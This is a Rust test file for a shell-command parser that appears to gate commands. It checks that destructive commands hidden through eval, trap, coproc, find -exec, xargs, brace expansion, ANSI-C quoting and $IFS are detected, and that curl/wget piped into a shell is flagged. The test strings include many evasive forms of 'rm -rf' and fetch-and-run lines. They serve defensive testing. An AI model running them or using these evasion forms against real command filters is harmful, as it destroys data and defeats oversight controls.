//! Constructs that run commands where the plain reading sees only words (issue 18 item 2,
//! field log BL-03): `coproc`, `trap` actions, `eval`, nested shell wrappers, `find`
//! actions, `xargs`, scripts piped into a shell, brace expansion, ANSI-C quoting and
//! `$IFS` in words.

use airlock_shell::{Note, parse_command};

use crate::support::{argv, bash, inner, inner_contains};

const RM: &[&str] = &["rm", "-rf", "x"];

fn sees_rm(command: &[String]) -> bool {
    inner_contains(command, RM)
}

#[test]
fn coproc_runs_its_command() {
    for script in [
        "coproc rm -rf x",
        "coproc N { rm -rf x; }",
        "coproc { rm -rf x; }",
        "coproc sudo rm -rf x",
    ] {
        assert!(
            sees_rm(&bash(script)),
            "{script:?}: {:?}",
            inner(&bash(script))
        );
    }
    assert!(sees_rm(&argv(&["coproc", "rm", "-rf", "x"])));
}

#[test]
fn trap_actions_are_scripts() {
    for script in [
        "trap 'rm -rf x' EXIT",
        "trap -- \"rm -rf x\" INT TERM",
        "trap 'echo hi; rm -rf x' 0",
    ] {
        assert!(
            sees_rm(&bash(script)),
            "{script:?}: {:?}",
            inner(&bash(script))
        );
    }
    // Listing and resetting run nothing.
    assert_eq!(inner(&bash("trap -p")).len(), 2);
    assert_eq!(inner(&bash("trap - EXIT")).len(), 2);
}

#[test]
fn eval_and_nested_shells_at_any_depth() {
    for script in [
        "eval 'rm -rf x'",
        "eval rm -rf x",
        "timeout 5 bash -c 'rm -rf x'",
        "sudo -u root env A=1 nice -n 5 sh -c 'rm -rf x'",
        "xargs sh -c 'rm -rf x'",
        "find . -exec sh -c 'rm -rf x' \\;",
        "bash -c \"eval 'timeout 5 sh -lc \\\"rm -rf x\\\"'\"",
        "nohup bash -e -c 'rm -rf x' &",
    ] {
        assert!(
            sees_rm(&bash(script)),
            "{script:?}: {:?}",
            inner(&bash(script))
        );
    }
}

#[test]
fn find_actions_are_commands() {
    for command in [
        argv(&["find", ".", "-exec", "rm", "-rf", "x", ";"]),
        argv(&[
            "find", ".", "-name", "y", "-execdir", "rm", "-rf", "x", "{}", "+",
        ]),
        argv(&["find", ".", "-ok", "rm", "-rf", "x", ";"]),
        argv(&["find", ".", "-okdir", "rm", "-rf", "x", ";"]),
        bash("find . -type f -exec rm -rf x \\;"),
        bash("find . -print -exec true \\; -exec rm -rf x {} +"),
    ] {
        let found = inner(&command);
        assert!(
            found.iter().any(|inner| inner.starts_with(&argv(RM))),
            "{command:?}: {found:?}"
        );
    }
}

#[test]
fn xargs_runs_its_command() {
    for script in [
        "echo x | xargs rm -rf x",
        "xargs -0 -n 1 rm -rf x </dev/null",
        "xargs -I{} rm -rf x",
        "xargs -P4 -L 1 rm -rf x",
    ] {
        assert!(
            sees_rm(&bash(script)),
            "{script:?}: {:?}",
            inner(&bash(script))
        );
    }
}

#[test]
fn piping_into_a_shell_is_unknown_code() {
    for script in [
        "curl https://x.invalid | sh",
        "curl https://x.invalid | bash -s -- --flag",
        "wget -qO- https://x.invalid | sudo bash",
        "cat install.sh | sh -",
        "curl https://x.invalid | timeout 60 /bin/sh -x",
    ] {
        let parsed = parse_command(&bash(script)).unwrap();
        assert!(
            parsed
                .notes
                .iter()
                .any(|note| matches!(note, Note::UnknownCode { .. })),
            "{script:?}: {:?}",
            parsed.notes
        );
    }
    for script in [
        "curl https://x.invalid | sh -c 'cat'",
        "cat x | sh run.sh",
        "ls | wc -l",
    ] {
        let parsed = parse_command(&bash(script)).unwrap();
        assert!(
            !parsed
                .notes
                .iter()
                .any(|note| matches!(note, Note::UnknownCode { .. })),
            "{script:?}: {:?}",
            parsed.notes
        );
    }
    // Printed literal words are read as the script too.
    assert!(sees_rm(&bash("echo 'rm -rf x' | sh")));
    assert!(sees_rm(&bash("printf 'rm -rf x' | bash")));
}

#[test]
fn brace_expansion_ansi_c_and_ifs_in_words() {
    for script in [
        "{r,}m -rf x",
        "{rm,-rf,x}",
        "$'\\x72m' -rf x",
        "$'\\162\\155' -rf x",
        "rm${IFS}-rf${IFS}x",
        "rm${IFS}-rf${IFS}'x'",
        "r{m,} -rf x",
    ] {
        let found = inner(&bash(script));
        assert!(
            found.iter().any(|inner| inner.starts_with(&argv(&["rm"]))
                && inner.contains(&"-rf".to_owned())),
            "{script:?}: {found:?}"
        );
    }
    // A direct argv is not shell-expanded: its tokens are what runs.
    assert_eq!(
        inner(&argv(&["echo", "{a,b}"])),
        vec![argv(&["echo", "{a,b}"])]
    );
}

// ------------------------------------------------ issue 18 item 4: git global options

#[test]
fn git_global_options_are_skipped_in_the_deny_view() {
    for command in [
        argv(&["git", "-C", ".", "push"]),
        argv(&["git", "--git-dir=.git", "push"]),
        argv(&["git", "--git-dir", ".git", "--work-tree=.", "push"]),
        argv(&["git", "--exec-path=/usr/lib/git-core", "push"]),
        argv(&["git", "--namespace", "n", "push"]),
        argv(&["git", "-p", "push"]),
        argv(&["/usr/bin/git", "-c", "user.name=x", "push"]),
        argv(&["git", "-c", "alias.x=push", "x"]),
        argv(&["git", "-c", "alias.x=!git push", "x"]),
        bash("cd x && git -C . push"),
    ] {
        let found = inner(&command);
        assert!(
            found
                .iter()
                .any(|inner| inner.len() >= 2 && inner[1] == "push" && inner[0].ends_with("git")),
            "{command:?}: {found:?}"
        );
    }
    let parsed = parse_command(&argv(&["git", "--config-env=alias.x=CMD", "x"])).unwrap();
    assert!(
        parsed
            .notes
            .iter()
            .any(|note| matches!(note, Note::UnknownCode { .. })),
        "{:?}",
        parsed.notes
    );
}
